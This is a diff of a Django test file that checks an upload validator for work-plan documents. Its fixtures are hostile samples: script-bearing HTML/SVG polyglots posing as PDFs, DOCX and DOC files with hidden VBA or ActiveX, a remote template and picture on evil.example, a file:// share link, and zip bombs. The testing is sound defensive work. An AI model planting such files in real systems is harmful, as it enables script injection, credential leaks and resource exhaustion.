@@ -2,41 +2,39 @@
 overdue plans, and who may do what."""
 
 import datetime
+import html
 import io
+import tracemalloc
 import zipfile
 
 import pytest
 from django.core.exceptions import PermissionDenied
+from django.core.files.base import ContentFile
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
+from django.utils import translation
 
 from practitioners.models import AuditEvent
 from reporting import documents, selectors, services
 from reporting.constants import PlanStatus
+from reporting.models import WorkPlan, WorkPlanVersion
 from tests.helpers import PLAN_PDF
+from tests.reporting import plan_files as files
 
 pytestmark = pytest.mark.django_db
 
 
-def docx_bytes(*, macros=False) -> bytes:
-    out = io.BytesIO()
-    with zipfile.ZipFile(out, "w") as z:
-        z.writestr("[Content_Types].xml", "<Types/>")
-        z.writestr("word/document.xml", "<w:document/>")
-        if macros:
-            z.writestr("word/vbaProject.bin", b"\0")
-    return out.getvalue()
+OLD_PLAN_PDF = b"%PDF-1.7\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n"  # no cross-reference
+WORD = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+OFFICE = "http://schemas.microsoft.com/office/2006/relationships"
 
 
-def odt_bytes() -> bytes:
-    out = io.BytesIO()
-    with zipfile.ZipFile(out, "w") as z:
-        z.writestr("mimetype", "application/vnd.oasis.opendocument.text")
-        z.writestr("content.xml", "<office:document-content/>")
-    return out.getvalue()
+def relationship(kind: str, target: str, *, mode: str = "External") -> str:
+    return f'<Relationship Id="rId9" Type="{kind}" Target="{target}" TargetMode="{mode}"/>'
 
 
-DOC = documents.OLE2 + b"\0" * 100 + "WordDocument".encode("utf-16-le") + b"\0" * 100
+def word_rels(*relationships: str) -> dict[str, str]:
+    return {"word/_rels/document.xml.rels": files.relationships(*relationships)}
 
 
 @pytest.mark.parametrize(
@@ -44,31 +42,287 @@ DOC = documents.OLE2 + b"\0" * 100 + "WordDocument".encode("utf-16-le") + b"\0" 
     [
         (PLAN_PDF, "方案.pdf", "pdf"),
         (PLAN_PDF, "方案.docx", "pdf"),  # the content decides, not the name
-        (docx_bytes(), "方案.docx", "docx"),
-        (odt_bytes(), "方案.odt", "odt"),
-        (DOC, "方案.doc", "doc"),
-        (documents.OLE2 + b"\0" * 200, "方案.wps", "wps"),
+        (files.pdf_with_xref_stream(), "方案.pdf", "pdf"),
+        (files.pdf_bytes(version=b"2.0", after=b"\0" * 600), "方案.pdf", "pdf"),
+        (files.docx_bytes(), "方案.docx", "docx"),
+        (
+            files.docx_bytes(
+                parts=word_rels(
+                    relationship(f"{WORD}/hyperlink", "https://czj.nanning.gov.cn/"),
+                    relationship(f"{WORD}/image", "media/image1.png", mode="Internal"),
+                )
+            ),
+            "方案.docx",
+            "docx",
+        ),
+        (  # an embedded object without macros (a Package object, an old chart)
+            files.docx_bytes(
+                parts={
+                    "word/embeddings/oleObject1.bin": files.ole2_bytes(
+                        {"\x01Ole10Native": b"\0" * 5000}
+                    )
+                }
+            ),
+            "方案.docx",
+            "docx",
+        ),
+        (files.odt_bytes(), "方案.odt", "odt"),
+        (files.ole2_bytes(files.word_binary()), "方案.doc", "doc"),
+        (files.ole2_bytes(files.word_binary(size=1500, table="0Table")), "方案.doc", "doc"),
+        (files.ole2_bytes(files.word_binary()), "方案.wps", "wps"),  # Kingsoft: Word's layout
     ],
 )
 def test_plan_files_are_told_by_their_content(data, name, kind):
     assert documents.identify(data, name).kind == kind
 
 
-@pytest.mark.parametrize(
-    "data, name, message",
-    [
-        (b"MZ\x90\x00 an executable", "方案.pdf", "not a PDF"),
-        (b"<html><script>alert(1)</script>", "方案.doc", "not a PDF"),
-        (documents.OLE2 + b"\0" * 200, "方案.doc", "not a PDF"),  # no Word stream
-        (docx_bytes(macros=True), "方案.docx", "macros"),
-        (b"PK\x03\x04 broken zip", "方案.docx", "damaged"),
-        (b"", "方案.pdf", "empty"),
-        (b"%PDF-" + b"0" * (20 * 1024 * 1024), "big.pdf", "20 MB"),
-    ],
-)
-def test_files_that_are_no_plan_are_refused_with_the_reason(data, name, message):
+def _zip_named(*names: str) -> bytes:
+    """A zip of the named members, in that order, each holding ODF text's media type."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as archive:
+        for name in names:
+            archive.writestr(name, "application/vnd.oasis.opendocument.text")
+    return out.getvalue()
+
+
+def _lying_zip() -> bytes:
+    """A DOCX whose content-types part inflates to 50 MB while its directory says 429 bytes."""
+    data = bytearray(files.docx_bytes(types=files.content_types() + " " * (50 * 1024 * 1024)))
+    at = data.index(b"PK\x01\x02")  # the directory's first entry: [Content_Types].xml
+    data[at + 24 : at + 28] = (429).to_bytes(4, "little")
+    return bytes(data)
+
+
+MACROS = "macros"
+EXTERNAL = "outside itself"
+NOT_A_PLAN = "not a PDF"
+DAMAGED_PDF = "PDF file could not be read"
+HOSTILE = {
+    # PDF: the header at offset 0, and a structure behind it.
+    "html with %PDF- in its first kilobyte": (
+        b"<html><!-- %PDF-1.7 --><script>alert(document.cookie)</script></html>",
+        "方案.pdf",
+        NOT_A_PLAN,
+    ),
+    "svg with %PDF-": (
+        b'<svg xmlns="http://www.w3.org/2000/svg"><!-- %PDF-1.4 --><script>alert(1)</script></svg>',
+        "方案.pdf",
+        NOT_A_PLAN,
+    ),
+    "exe with %PDF-": (
+        b"MZ\x90\x00" + b"\0" * 60 + b"%PDF-1.7\n" + b"\0" * 500,
+        "方案.pdf",
+        NOT_A_PLAN,
+    ),
+    "pdf behind html": (
+        files.pdf_bytes(before=b"<html><script>x()</script>"),
+        "方案.pdf",
+        NOT_A_PLAN,
+    ),
+    "zip with %PDF- in its first kilobyte": (
+        _zip_named("%PDF-1.7.txt"),
+        "方案.pdf",
+        NOT_A_PLAN,
+    ),
+    "html after a pdf header": (
+        b"%PDF-1.7\n<html><script>alert(1)</script></html>\n%%EOF\n",
+        "方案.pdf",
+        DAMAGED_PDF,
+    ),
+    "pdf without cross-reference": (OLD_PLAN_PDF, "方案.pdf", DAMAGED_PDF),
+    "startxref beyond the file": (
+        PLAN_PDF.replace(b"startxref\n", b"startxref\n99999"),
+        "方案.pdf",
+        DAMAGED_PDF,
+    ),
+    "startxref at no cross-reference": (
+        PLAN_PDF[: PLAN_PDF.rindex(b"startxref")] + b"startxref\n9\n%%EOF\n",
+        "方案.pdf",
+        DAMAGED_PDF,
+    ),
+    "pdf with a kilobytes-long tail after %%EOF": (
+        files.pdf_bytes(after=b"<html>" * 400),
+        "方案.pdf",
+        DAMAGED_PDF,
+    ),
+    # DOC and WPS: Word's layout, no macros.
+    "doc with a Macros storage": (
+        files.ole2_bytes(
+            {**files.word_binary(), "Macros": {"VBA": {"_VBA_PROJECT": b"\xcc\x61", "dir": b"x"}}}
+        ),
+        "方案.doc",
+        MACROS,
+    ),
+    "doc embedding a workbook with macros": (
+        files.ole2_bytes(
+            {
+                **files.word_binary(),
+                "ObjectPool": {"_1234": {"_VBA_PROJECT_CUR": {"VBA": {"dir": b"x"}}}},
+            }
+        ),
+        "方案.doc",
+        MACROS,
+    ),
+    "wps with a Macros storage": (
+        files.ole2_bytes({**files.word_binary(), "Macros": {"VBA": {"dir": b"x"}}}),
+        "方案.wps",
+        MACROS,
+    ),
+    "any OLE2 file named .wps": (
+        files.ole2_bytes({"CONTENTS": b"\0" * 5000, "MatOST": b"\0" * 100}),
+        "方案.wps",
+        "WPS file is not in WPS Writer",
+    ),
+    "OLE2 of another layout named .doc": (
+        files.ole2_bytes({"Workbook": b"\0" * 5000}),
+        "方案.doc",
+        NOT_A_PLAN,
+    ),
+    "WordDocument without Word's header": (
+        files.ole2_bytes(files.word_binary(ident=0x1234)),
+        "方案.doc",
+        NOT_A_PLAN,
+    ),
+    "WordDocument without its table stream": (
+        files.ole2_bytes({"WordDocument": files.word_binary()["WordDocument"]}),
+        "方案.doc",
+        NOT_A_PLAN,
+    ),
+    "an OLE2 header and nothing else": (documents.OLE2 + b"\0" * 200, "方案.doc", "damaged"),
+    # DOCX: no macros or ActiveX under any name, no remote template, picture or object.
+    "docx with word/vbaProject.bin": (
+        files.docx_bytes(parts={"word/vbaProject.bin": b"\0"}),
+        "方案.docx",
+        MACROS,
+    ),
+    "docx with word/VBAPROJECT.BIN": (
+        files.docx_bytes(parts={"word/VBAPROJECT.BIN": b"\0"}),
+        "方案.docx",
+        MACROS,
+    ),
+    "docx with a VBA project named word/macros.bin": (
+        files.docx_bytes(parts={"word/macros.bin": files.vba_project()}),
+        "方案.docx",
+        MACROS,
+    ),
+    "docx declaring word/macros.bin a VBA project": (
+        files.docx_bytes(
+            types=files.content_types(
+                extra='<Override PartName="/word/macros.bin" '
+                'ContentType="application/vnd.ms-office.vbaProject"/>'
+            ),
+            parts={"word/macros.bin": b"\0"},
+        ),
+        "方案.docx",
+        MACROS,
+    ),
+    "docx relating to a VBA project": (
+        files.docx_bytes(
+            parts=word_rels(relationship(f"{OFFICE}/vbaProject", "m.bin", mode="Internal"))
+        ),
+        "方案.docx",
+        MACROS,
+    ),
+    "macro-enabled main document": (
+        files.docx_bytes(
+            types=files.content_types(main="application/vnd.ms-word.document.macroEnabled.main+xml")
+        ),
+        "方案.docx",
+        MACROS,
+    ),
+    "docx with an ActiveX control": (
+        files.docx_bytes(parts={"word/activeX/activeX1.xml": "<ax:ocx/>"}),
+        "方案.docx",
+        MACROS,
+    ),
+    "docx embedding a workbook with macros": (
+        files.docx_bytes(
+            parts={
+                "word/embeddings/oleObject1.bin": files.ole2_bytes(
+                    {"_VBA_PROJECT_CUR": {"VBA": {"dir": b"x"}}, "Workbook": b"\0" * 5000}
+                )
+            }
+        ),
+        "方案.docx",
+        MACROS,
+    ),
+    "docx with a remote template": (
+        files.docx_bytes(
+            parts={
+                "word/_rels/settings.xml.rels": files.relationships(
+                    relationship(f"{WORD}/attachedTemplate", "https://evil.example/t.dotm")
+                )
+            }
+        ),
+        "方案.docx",
+        EXTERNAL,
+    ),
+    "docx with a remote picture": (
+        files.docx_bytes(
+            parts=word_rels(
+                relationship(f"{WORD}/image", "http://evil.example/p.png", mode="EXTERNAL")
+            )
+        ),
+        "方案.docx",
+        EXTERNAL,
+    ),
+    "docx with a hyperlink to a Windows share": (
+        files.docx_bytes(parts=word_rels(relationship(f"{WORD}/hyperlink", "file://evil/share/x"))),
+        "方案.docx",
+        EXTERNAL,
+    ),
+    "docx with a DTD in its relationships": (
+        files.docx_bytes(
+            parts={"word/_rels/document.xml.rels": '<!DOCTYPE r [<!ENTITY a "aaaa">]><r>&a;</r>'}
+        ),
+        "方案.docx",
+        "damaged",
+    ),
+    "xlsx named .docx": (
+        files.docx_bytes(
+            types=files.content_types(
+                main="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
+            )
+        ),
+        "方案.docx",
+        NOT_A_PLAN,
+    ),
+    "a 1 GB zip bomb named .docx": (files.zip_bomb(), "方案.docx", "unpacks to 1.0"),
+    "a zip lying about its sizes": (_lying_zip(), "方案.docx", "damaged"),
+    # ODT: mimetype first, no macros.
+    "odt with Basic macros": (
+        files.odt_bytes(parts={"Basic/Standard/Module1.xml": "<script:module/>"}),
+        "方案.odt",
+        MACROS,
+    ),
+    "odt without its mimetype first": (
+        _zip_named("content.xml", "mimetype"),
+        "方案.odt",
+        NOT_A_PLAN,
+    ),
+    # Everything else.
+    "broken zip": (b"PK\x03\x04 broken zip", "方案.docx", "damaged"),
+    "empty": (b"", "方案.pdf", "empty"),
+    "too large": (b"%PDF-" + b"0" * (20 * 1024 * 1024), "big.pdf", "20 MB"),
+}
+
+
+@pytest.mark.parametrize("data, name, message", HOSTILE.values(), ids=HOSTILE.keys())
+def test_files_that_are_no_plan_or_carry_danger_are_refused_with_the_reason(data, name, message):
     with pytest.raises(documents.DocumentError, match=message):
         documents.identify(data, name)
+
+
+def test_a_lying_zip_is_refused_having_inflated_no_more_than_it_declared():
+    data = _lying_zip()
+    tracemalloc.start()
+    try:
+        with pytest.raises(documents.DocumentError):
+            documents.identify(data, "方案.docx")
+        _size, peak = tracemalloc.get_traced_memory()
+    finally:
+        tracemalloc.stop()
+    assert peak < 1024 * 1024  # the part inflates to 50 MB
 
 
 def file_plan(campaign, bureau, actor, *, revision=None, summary="宣传、人员、进度"):
@@ -247,5 +501,92 @@ def test_a_zip_declaring_thousands_of_parts_is_refused_before_its_directory_is_r
         z.writestr("word/document.xml", "<w:document/>")
         for i in range(documents.MAX_ZIP_PARTS):
             z.writestr(f"p/{i}", "")
-    with pytest.raises(documents.DocumentError, match="not a PDF"):
+    with pytest.raises(documents.DocumentError, match="more than 5000 parts"):
         documents.identify(out.getvalue(), "方案.docx")
+
+
+UPLOADED = [
+    "html with %PDF- in its first kilobyte",
+    "docx with a VBA project named word/macros.bin",
+    "docx with a remote template",
+    "doc with a Macros storage",
+    "any OLE2 file named .wps",
+    "a 1 GB zip bomb named .docx",
+]
+
+
+@pytest.mark.parametrize("case", UPLOADED)
+def test_a_dangerous_upload_is_refused_at_the_file_field_and_nothing_is_stored(
+    client, campaign, admin_a, case
+):
+    data, name, _message = HOSTILE[case]
+    client.force_login(admin_a)
+    response = client.post(
+        reverse("reporting:plan", args=["450103"]),
+        {"file": SimpleUploadedFile(name, data), "summary": "我写的摘要"},
+    )
+    assert response.status_code == 400
+    with (
+        translation.override(response["Content-Language"]),
+        pytest.raises(documents.DocumentError) as refusal,
+    ):
+        documents.identify(data, name)  # the reason, in the page's language
+    form = response.context["upload"]
+    assert form.errors["file"] == [str(refusal.value)]
+    page = html.unescape(response.content.decode())
+    assert str(refusal.value) in page and "我写的摘要" in page
+    assert not WorkPlan.objects.exists() and not WorkPlanVersion.objects.exists()
+
+
+@pytest.mark.parametrize(
+    "data, name, disposition, content_type",
+    [
+        (PLAN_PDF, "方案.pdf", "inline", "application/pdf"),
+        (files.docx_bytes(), "方案.docx", "attachment", documents.KINDS["docx"]),
+        (files.odt_bytes(), "方案.odt", "attachment", documents.KINDS["odt"]),
+        (files.ole2_bytes(files.word_binary()), "方案.doc", "attachment", "application/msword"),
+        (files.ole2_bytes(files.word_binary()), "方案.wps", "attachment", documents.KINDS["wps"]),
+    ],
+)
+def test_only_a_pdf_that_passed_opens_in_the_browser_everything_else_is_downloaded(
+    client, campaign, county_a, admin_a, city_staff, data, name, disposition, content_type
+):
+    services.file_work_plan(
+        campaign=campaign,
+        bureau=county_a,
+        actor=admin_a,
+        data=data,
+        file_name=name,
+        summary="摘要",
+        revision=None,
+    )
+    client.force_login(city_staff)
+    response = client.get(reverse("reporting:plan_file", args=["450103", 1]))
+    assert response["Content-Disposition"].startswith(disposition)
+    assert response["Content-Type"] == content_type
+    assert response["X-Content-Type-Options"] == "nosniff"
+    assert b"".join(response.streaming_content) == data
+
+
+def test_a_pdf_stored_before_the_check_was_strict_is_downloaded_not_shown(
+    client, campaign, county_a, admin_a, city_staff
+):
+    """A version filed under the old check (`%PDF-` anywhere in the first kilobyte) may be an
+    HTML page: it is served as a download of unknown type, never inline."""
+    plan = services.file_work_plan(
+        campaign=campaign,
+        bureau=county_a,
+        actor=admin_a,
+        data=PLAN_PDF,
+        file_name="方案.pdf",
+        summary="摘要",
+        revision=None,
+    )
+    version = plan.versions.get()
+    old = b"<html><!-- %PDF-1.7 --><script>alert(1)</script></html>"
+    version.file.save("plan-v1.pdf", ContentFile(old))
+    client.force_login(city_staff)
+    response = client.get(reverse("reporting:plan_file", args=["450103", 1]))
+    assert response["Content-Disposition"].startswith("attachment")
+    assert response["Content-Type"] == "application/octet-stream"
+    assert b"".join(response.streaming_content) == old
